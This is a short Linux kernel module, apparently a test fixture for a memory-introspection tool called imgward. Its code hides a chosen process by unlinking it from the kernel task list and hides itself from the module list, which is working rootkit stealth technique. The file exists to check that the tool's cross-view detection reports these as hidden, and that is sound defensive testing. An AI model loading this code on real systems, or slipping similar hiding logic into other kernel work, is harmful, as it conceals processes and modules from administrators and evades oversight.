// SPDX-License-Identifier: GPL-2.0
/*
 * hideproc: a test rootkit for imgward's guest-memory cross-views. It
 * unlinks the process of PID pid from the task list, as rootkits do to
 * hide from ps and /proc, and itself from the module list, to hide from
 * lsmod and /proc/modules. The PID table and the module kset still know
 * both, which is what introspect/vmi/guest reports as proc.hidden and
 * module.hidden. It takes no locks the kernel does not export: it is for
 * a throwaway test guest only.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0);

static int __init hideproc_init(void)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		list_del_init(&t->tasks);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	list_del_init(&THIS_MODULE->list);
	return 0;
}
module_init(hideproc_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("imgward test: hide a process and this module");
